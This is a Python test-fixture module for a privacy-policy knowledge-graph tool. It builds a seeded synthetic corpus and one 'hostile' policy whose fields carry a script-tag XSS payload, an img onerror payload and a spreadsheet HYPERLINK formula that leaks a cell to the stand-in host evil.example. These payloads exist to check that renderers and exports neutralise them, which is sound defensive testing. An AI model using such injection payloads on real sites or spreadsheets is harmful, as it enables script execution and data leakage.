"""Graphs for the viz and export tests and the viz benchmark, built per docs/DESIGN.md.

* ``hostile_graphs``: one policy whose company name and quotes carry HTML/JS and spreadsheet
  formula payloads, to prove every renderer neutralises them.
* ``synthetic_corpus``: N invented policies with a seeded random mix of categories, recipients and
  conditions, for scaling tests and ``bench/bench_viz.py``.

All sample text is invented for these tests.
"""
from __future__ import annotations

import random

from graph_fixtures import COLLECT, SHARE, PolicyBuilder, ontology_slice
from rdflib import Literal
from rdflib.namespace import DCTERMS, XSD

from policykg.namespaces import DPV, GRAPH, ONTOLOGY_GRAPH, PKG

HOSTILE = "d0d0d0d0d0d0d0d0"
SCRIPT_PAYLOAD = "<script>window.pwned=1;document.title='PWNED-SCRIPT'</script>"
IMG_PAYLOAD = "<img src=x onerror=\"document.body.setAttribute('data-pwned','img')\">"
FORMULA_PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE_COMPANY = f"Evil {SCRIPT_PAYLOAD} Corp"
HOSTILE_COLLECT = f"We collect your e-mail address {IMG_PAYLOAD} for the service."
HOSTILE_CONDITION = FORMULA_PAYLOAD


def hostile_policy() -> list:
    b = PolicyBuilder(HOSTILE)
    b.header(company=HOSTILE_COMPANY, slug="evil", language="en", file_name=FORMULA_PAYLOAD + ".txt")
    b.add(b.policy, DCTERMS.title, Literal(f"Policy {SCRIPT_PAYLOAD}"))
    b.add(b.policy, PKG.sha256, Literal("d0" * 32))
    b.add(b.policy, PKG.ingestedAt, Literal("2024-05-01T10:00:00+00:00", datatype=XSD.dateTime))
    b.add(b.policy, DCTERMS.modified, Literal("2024-03-15", datatype=XSD.date))
    b.add(b.policy, DCTERMS.source, Literal("https://evil.example/privacy?a={b}&c=%d"))
    b.statement("CollectionStatement", HOSTILE_COLLECT,
                values={DPV.hasPersonalData: ["pd/EmailAddress"]}, summary=COLLECT)
    b.statement("SharingStatement", "We share data with partners.", values={DPV.hasRecipient: ["recipient/partners"]},
                summary=SHARE, conditions={"contract": HOSTILE_CONDITION})
    return b.finish()


def hostile_graphs() -> dict[str, list]:
    return {str(GRAPH[f"policy/{HOSTILE}"]): hostile_policy(), str(ONTOLOGY_GRAPH): ontology_slice()}


CATEGORIES = ["pd/EmailAddress", "pd/TelephoneNumber", "pd/Name", "pd/IPAddress", "pd/Location", "pd/Fingerprint",
              *(f"pd/Synthetic{i}" for i in range(40))]
RECIPIENTS = ["recipient/affiliates", "recipient/partners", "recipient/service-providers", "recipient/authorities",
              "recipient/advertisers", "recipient/third-parties"]
CONDITIONS = ["consent", "legal-obligation", "contract", "service-security", "protect-rights", "entrusted-processing",
              "affiliates", "public-interest", "vital-interests", "merger-acquisition"]


def synthetic_policy(index: int, rng: random.Random) -> tuple[str, list]:
    docid = f"{index:016x}"
    b = PolicyBuilder(docid)
    b.header(company=f"Synthetic Company {index:03d} Ltd.", slug=f"synthetic-{index:03d}", language="en",
             file_name=f"synthetic_{index:03d}.txt")
    b.add(b.policy, PKG.ingestedAt, Literal("2024-05-01T10:00:00+00:00", datatype=XSD.dateTime))
    categories = rng.sample(CATEGORIES, rng.randint(2, 9))
    b.statement("CollectionStatement", f"Policy {index} collects {len(categories)} kinds of data.",
                values={DPV.hasPersonalData: categories}, summary=COLLECT)
    recipients = rng.sample(RECIPIENTS, rng.randint(1, 3))
    conditions = rng.sample(CONDITIONS, rng.randint(1, 5))
    b.statement("SharingStatement", f"Policy {index} shares data in some cases.",
                values={DPV.hasRecipient: recipients}, summary=SHARE,
                conditions={key: f"Policy {index} discloses data: {key}." for key in conditions})
    return str(GRAPH[f"policy/{docid}"]), b.finish()


def synthetic_corpus(count: int, *, seed: int = 7) -> dict[str, list]:
    """``count`` invented policies plus the ontology slice, as named graph IRI -> triples."""
    rng = random.Random(seed)
    graphs = dict(synthetic_policy(index, rng) for index in range(count))
    graphs[str(ONTOLOGY_GRAPH)] = ontology_slice()
    return graphs
